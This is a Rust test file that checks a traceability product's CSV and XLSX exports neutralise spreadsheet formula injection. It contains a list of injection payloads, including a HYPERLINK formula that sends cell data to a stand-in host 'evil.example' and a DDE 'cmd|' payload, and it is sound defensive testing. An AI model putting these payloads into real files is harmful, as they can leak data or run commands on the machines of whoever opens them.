//! Exports: what other organisations wrote never becomes a formula.

use calamine::{Data, Reader, Xlsx};
use filiera_sheet::export::{CsvExport, ExportEvent, ExportLot, csv, neutralise, xlsx};
use std::io::Cursor;

/// Notes a receiver could have written on chain to attack whoever opens the
/// export in a spreadsheet.
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"ok\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
];

fn lots() -> Vec<ExportLot> {
    vec![ExportLot {
        gtin: "08012345000012".into(),
        lot: "CU-2026-001".into(),
        status: "active".into(),
        quantity: 90,
        initial_quantity: 120,
        owner: "caseificio-montefeltro".into(),
        holder: "caseificio-montefeltro".into(),
        site: Some("8012345000104".into()),
        created_ms: 1_796_601_600_000,
        history: HOSTILE
            .iter()
            .enumerate()
            .map(|(i, note)| ExportEvent {
                seq: i as u64,
                kind: "storing".into(),
                by: "=cmd".into(),
                height: 10 + i as u64,
                time_ms: 1_796_601_600_000 + i as u64,
                quantity_delta: -30,
                site: None,
                note: (*note).into(),
            })
            .collect(),
    }]
}

#[test]
fn a_csv_cell_that_would_be_a_formula_is_plain_text() -> anyhow::Result<()> {
    let bytes = csv(CsvExport::Events, &lots(), b';')?;
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "Excel reads accents");
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(&bytes[3..]);
    let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>()?;
    assert_eq!(rows.len(), HOSTILE.len());
    for (row, note) in rows.iter().zip(HOSTILE) {
        assert_eq!(&row[8], format!("'{note}"), "note neutralised");
        assert_eq!(&row[5], "'=cmd", "organisation neutralised");
        assert_eq!(&row[6], "-30", "a number the node computed stays a number");
        assert_eq!(&row[4][..19], "2026-12-07T00:00:00");
    }
    for cell in rows
        .iter()
        .flat_map(|r| r.iter().map(str::to_owned).collect::<Vec<_>>())
    {
        let risky = cell.starts_with(['=', '+', '@', '\t', '\r'])
            || (cell.starts_with('-') && cell.parse::<i64>().is_err());
        assert!(!risky, "cell {cell:?} would be read as a formula");
    }
    assert_eq!(neutralise("Casciotta d'Urbino"), "Casciotta d'Urbino");
    let lots_csv = String::from_utf8(csv(CsvExport::Lots, &lots(), b',')?)?;
    assert!(lots_csv.contains("08012345000012,CU-2026-001,active,90,120,"));
    Ok(())
}

#[test]
fn an_xlsx_export_holds_strings_and_numbers_never_formulas() -> anyhow::Result<()> {
    let bytes = xlsx(&lots(), 1_796_601_600_000)?;
    let mut workbook = Xlsx::new(Cursor::new(bytes))?;
    assert_eq!(workbook.sheet_names(), vec!["lots", "events"]);
    let events = workbook.worksheet_range("events")?;
    let notes: Vec<&Data> = events.rows().skip(1).map(|r| &r[8]).collect();
    assert_eq!(
        notes,
        HOSTILE
            .iter()
            .map(|n| Data::String((*n).into()))
            .collect::<Vec<_>>()
            .iter()
            .collect::<Vec<_>>()
    );
    assert_eq!(
        events.rows().nth(1).map(|r| r[6].clone()),
        Some(Data::Float(-30.0))
    );
    let formulas = workbook.worksheet_formula("events")?;
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no cell is a formula"
    );
    Ok(())
}
